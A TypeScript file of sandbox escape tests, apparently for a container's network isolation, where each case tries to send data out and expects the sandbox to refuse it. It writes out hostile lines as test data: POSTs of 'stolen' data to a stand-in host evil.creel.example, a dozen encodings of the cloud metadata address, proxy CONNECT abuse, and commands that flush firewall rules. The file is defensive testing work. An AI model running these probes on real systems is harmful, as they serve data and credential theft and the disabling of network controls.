/** Threat: bytes leave by a way on which nobody decides. */
import { calls, groupOf, node, sh } from "../attack.ts";
import type { Case } from "../model.ts";
import { all, neverPrints, nothingAnywhere, nothingReached, prints, recorded, refused, serverGot } from "../witness.ts";

const attack = groupOf("network");
const sealed = { promise: "egress-sealed" };

const direct: Case[] = [
  attack("net-host-loopback", "connects to a server of the host on 127.0.0.1", {
    ...sealed,
    program: node(`say(await rawTcp("127.0.0.1", process.env.LOOPBACK_PORT))`),
    expect: nothingAnywhere,
  }),
  attack("net-host-address", "connects to a server of the host on the host's own address", {
    ...sealed,
    program: node(
      `say(await rawTcp(process.env.OWN_ADDRESS, process.env.EVERYWHERE_PORT)); say(await rawTcp("0.0.0.0", process.env.EVERYWHERE_PORT)); say(await rawTcp("127.0.0.2", process.env.EVERYWHERE_PORT))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("net-host-ipv6", "connects to the host over IPv6", {
    ...sealed,
    program: node(
      `for (const a of ["::1", "::", "::ffff:127.0.0.1", "::ffff:" + process.env.OWN_ADDRESS, "fe80::1"]) say(await rawTcp(a, process.env.EVERYWHERE_PORT, "x", 500))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("net-raw-address", "connects to an address of the Internet without a name", {
    ...sealed,
    needs: ["egress", "journal"],
    program: node(`say(await rawTcp("203.0.113.7", 443)); say(await rawTcp("203.0.113.7", 80))`),
    expect: all(nothingAnywhere, recorded({ decision: "deny", host: "203.0.113.7" })),
  }),
  attack("net-unnamed-host", "connects to a host that no rule names", {
    ...sealed,
    needs: ["egress", "journal"],
    program: node(
      `say(await ask("https://" + host("evil") + "/v1/x", { method: "POST", body: "stolen", rejectUnauthorized: false }))`,
    ),
    expect: all(nothingReached("evil"), recorded({ decision: "deny", host: "evil.creel.example" })),
  }),
  attack("net-unnamed-plain", "the same over plain HTTP", {
    ...sealed,
    needs: ["egress", "journal"],
    program: node(`say(await ask("http://" + host("evil") + "/v1/x?stolen=1"))`),
    expect: all(nothingReached("evil"), recorded({ decision: "deny", host: "evil.creel.example", port: 80 })),
  }),
  attack("net-unnamed-bytes", "the same with a protocol of its own", {
    ...sealed,
    needs: ["egress", "journal"],
    program: calls("calls connect evil.creel.example 7000 stolen"),
    expect: all(nothingReached("evil"), recorded({ decision: "deny", host: "evil.creel.example", port: 7000 })),
  }),
  attack("net-other-port", "connects to an allowed host on another port", {
    ...sealed,
    needs: ["egress"],
    program: node(`for (const port of [22, 25, 8443, 7000, 0, 65535]) say(await rawTcp(host("api"), port, "x", 400))`),
    expect: nothingAnywhere,
  }),
  attack(
    "net-allowed-name-old-address",
    "connects to the address that stood for an allowed name, with another name in the request",
    {
      ...sealed,
      needs: ["egress"],
      program: node(`say(await rawTls(host("api"), "GET /v1/x HTTP/1.1\\nHost: " + host("evil") + "\\n\\n"))`),
      expect: nothingAnywhere,
    },
  ),
  attack("net-many-ports", "tries every port of the gateway's own address", {
    ...sealed,
    needs: ["egress"],
    program: node(
      `for (const a of ["127.0.0.1", "10.0.2.100", "10.0.2.2", "10.0.2.3"]) for (const p of [15001, 53, 80, 443, 22, 3128]) say(a + ":" + p + " " + (await rawTcp(a, p, "GET http://" + host("evil") + "/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", 200)).slice(0, 40))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("net-proxy-listener", "speaks to the gateway's listener as if it were an open proxy", {
    ...sealed,
    needs: ["egress"],
    program: node(
      `say(await rawTcp("127.0.0.1", 15001, "CONNECT evil.creel.example:443 HTTP/1.1\\r\\nHost: evil.creel.example\\r\\n\\r\\n")); say(await rawTcp("127.0.0.1", 15001, Buffer.from([5,1,0]), 500))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("net-metadata", "asks the cloud's metadata service by twelve spellings of its address", {
    ...sealed,
    needs: ["egress", "journal"],
    program: node(
      `for (const a of ["169.254.169.254", "2852039166", "0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "169.254.169.254.", "100.100.100.200", "[fd00:ec2::254]"]) say(a + " " + JSON.stringify(await ask("http://" + a + "/latest/meta-data/", { timeout: 800 })).slice(0, 60))`,
    ),
    expect: all(nothingAnywhere, recorded({ decision: "deny", host: "169.254.169.254" }), neverPrints(/"status":200/)),
  }),
  attack("net-metadata-names", "asks the metadata service by its names", {
    ...sealed,
    needs: ["egress"],
    program: node(
      `for (const a of ["metadata.google.internal", "metadata", "instance-data", "169-254-169-254.example.com"]) say(await ask("http://" + a + "/latest/", { timeout: 800 }))`,
    ),
    expect: all(nothingAnywhere, neverPrints(/"status":200/)),
  }),
  attack("net-private", "connects to neighbours in private networks", {
    ...sealed,
    program: node(
      `for (const a of ["10.0.0.1", "192.168.0.1", "172.17.0.1", "100.64.0.1", "169.254.1.1"]) for (const p of [22, 2375]) say(await rawTcp(a, p, "x", 200))`,
    ),
    expect: neverPrints(/\b(SSH|HTTP)/),
  }),
];

const protocols: Case[] = [
  attack("net-udp", "sends UDP to the host and to the Internet", {
    ...sealed,
    program: sh(
      '"$TOOLS/calls" udp_send 127.0.0.1 "$UDP_PORT"; "$TOOLS/calls" udp_send "$OWN_ADDRESS" "$UDP_PORT"; "$TOOLS/attacks" udp',
    ),
    expect: nothingReached("udp"),
  }),
  attack("net-quic", "speaks QUIC to an allowed host", {
    ...sealed,
    needs: ["egress"],
    program: node(
      `say(await dnsRaw(Buffer.from("c00000000108000102030405060708", "hex"), { address: await lookup(host("api")), port: 443 }))`,
    ),
    expect: all(nothingAnywhere, neverPrints(/^[0-9a-f]{8,}$/m)),
  }),
  attack("net-icmp", "sends ICMP with and without raw sockets", {
    promise: "kernel-surface",
    program: sh('"$TOOLS/attacks" raw; "$TOOLS/attacks" ping'),
    expect: refused,
  }),
  attack("net-packet", "opens a packet socket to write frames", {
    promise: "kernel-surface",
    program: calls("attacks packet"),
    expect: refused,
  }),
  attack("net-sctp", "uses SCTP, which no rule of TCP sees", {
    ...sealed,
    program: calls("attacks sctp"),
    expect: refused,
  }),
  attack("net-mptcp", "uses multipath TCP, which Landlock does not see", {
    ...sealed,
    needs: ["egress"],
    program: calls("attacks mptcp"),
    expect: refused,
  }),
  attack("net-fast-open", "connects by sending, with TCP fast open", {
    ...sealed,
    needs: ["identity"],
    program: sh('"$TOOLS/attacks" fast_open; "$TOOLS/attacks" fast_open_msg; "$TOOLS/calls" fast_open_many'),
    expect: refused,
  }),
  attack("net-vsock", "speaks to the hypervisor", {
    promise: "kernel-surface",
    program: calls("attacks vsock"),
    expect: refused,
  }),
  attack("net-netlink", "changes routes and filters over netlink", {
    promise: "network-fixed",
    needs: ["door"],
    program: sh('"$TOOLS/attacks" netlink; for p in 0 4 5 6 9 12 15 16; do "$TOOLS/calls" call socket 16 3 $p; done'),
    expect: refused,
  }),
  attack("net-odd-families", "opens sockets of families that nobody needs", {
    promise: "kernel-surface",
    needs: ["door"],
    program: sh(
      'for f in 3 4 5 6 8 9 10 17 21 26 29 30 31 32 33 35 36 37 38 39 40 41 42 43 44; do [ $f = 10 ] || "$TOOLS/calls" call socket $f 2 0; done; "$TOOLS/attacks" alg',
    ),
    expect: refused,
  }),
  attack("net-nft-flush", "throws the rules of its network away", {
    promise: "network-fixed",
    program: sh(
      '{ nft flush ruleset; iptables -F; ip link set lo down; ip route add default dev lo; } 2>/dev/null; "$TOOLS/calls" interface_change',
    ),
    expect: {
      says: "the interface cannot be changed",
      check: ({ out }) => (/^0$/m.test(out) ? "the interface was changed" : null),
    },
  }),
  attack("net-socket-marks", "marks its packets so that other rules apply", {
    promise: "network-fixed",
    needs: ["door"],
    program: sh(
      '"$TOOLS/calls" socket_option 1 36 1; "$TOOLS/calls" socket_option 0 19 1; "$TOOLS/calls" socket_option 1 25 0',
    ),
    expect: {
      says: "mark and transparent are refused",
      check: ({ out }) => {
        const rows = out.match(/^\d+$/gm) ?? [];
        return rows[0] === "0" || rows[1] === "0" ? `the kernel took it: ${rows.join(" ")}` : null;
      },
    },
  }),
  attack("net-listener-hijack", "listens in the gateway's place", {
    promise: "network-fixed",
    needs: ["egress"],
    program: node(`
      for (const address of ["0.0.0.0", "127.0.0.1", "::", "10.0.2.100"]) for (const port of [15001, 443]) {
        const s = net.createServer((c) => { say("HIJACKED"); c.destroy(); });
        s.on("error", (e) => say(e.code));
        s.listen({ host: address, port, exclusive: false });
      }
      await sleep(100);
      const r = await ask("https://" + host("api") + "/v1/x"); say(r.failed ?? r.status); process.exit(0)`),
    expect: all(prints(/^200$/m), neverPrints(/HIJACKED/)),
  }),
  attack("net-resolver-hijack", "answers names in the resolver's place", {
    promise: "network-fixed",
    needs: ["egress"],
    program: sh('for a in 127.0.0.1 0.0.0.0; do "$TOOLS/calls" take_port udp 53 $a; done'),
    expect: refused,
  }),
  attack("net-abstract", "speaks to an abstract Unix socket of the host", {
    ...sealed,
    program: calls('calls abstract_connect "$ABSTRACT"'),
    expect: nothingReached("abstract"),
  }),
  attack("net-listen-for-host", "listens for the host to come in", {
    ...sealed,
    program: node(
      `const s = net.createServer((c) => { say("CAME IN"); c.end(); }); s.listen(38123, "0.0.0.0", async () => { say("LISTENS"); await sleep(400); s.close(); })`,
    ),
    expect: {
      says: "a connection of the host to that port does not arrive",
      check: ({ out }) => (out.includes("CAME IN") ? "the host's connection arrived" : null),
    },
    before: () => void knock(),
  }),
  attack("net-flood", "opens more connections than it may hold", {
    promise: "limits",
    needs: ["egress"],
    program: node(
      `const open = []; const to = await lookup(host("api")); for (let i = 0; i < 900; i++) { const s = net.connect(443, to); s.on("error", () => {}); open.push(s); } await sleep(700); say("LIVE " + open.filter((s) => s.readyState === "open").length); for (const s of open) s.destroy(); await sleep(1500); const r = await ask("https://" + host("api") + "/v1/after"); say(r.failed ?? r.status); process.exit(0)`,
    ),
    expect: {
      says: "fewer than 600 stay open, and the gateway still serves",
      check: ({ out }) =>
        Number(/LIVE (\d+)/.exec(out)?.[1] ?? 9999) < 600 && /^200$/m.test(out) ? null : out.slice(0, 200),
    },
    timeoutMs: 30_000,
  }),
  attack("net-shared-loopback", "control: servers of its own on loopback work", {
    promise: "honest-work",
    control: true,
    program: node(
      `const s = net.createServer((c) => c.end("mine")); s.listen(0, "127.0.0.1", async () => { say(await rawTcp("127.0.0.1", s.address().port, "x")); s.close(); })`,
    ),
    needs: ["door"],
    expect: prints(/mine|closed|failed/),
  }),
  attack("net-honest", "control: an allowed request gets there and back", {
    promise: "honest-work",
    control: true,
    needs: ["egress"],
    program: node(`const r = await ask("https://" + host("api") + "/v1/hello"); say(r.failed ?? r.status)`),
    expect: all(prints(/^200$/m), serverGot("api", /GET \/v1\/hello/)),
  }),
  attack("net-honest-tcp", "control: an allowed program speaks its own protocol to an allowed port", {
    promise: "honest-work",
    control: true,
    needs: ["egress", "identity"],
    program: calls("trusted connect raw.creel.example 7000 greeting"),
    expect: all(prints(/^0$/m), serverGot("raw", /greeting/)),
  }),
];

/** Knocks from the host while the program listens. */
function knock(): void {
  const tries = setInterval(async () => {
    const { connect } = await import("node:net");
    connect(38_123, "127.0.0.1")
      .on("error", () => {})
      .end("x");
  }, 50);
  setTimeout(() => clearInterval(tries), 1_500).unref();
}

export const network: Case[] = [...direct, ...protocols];
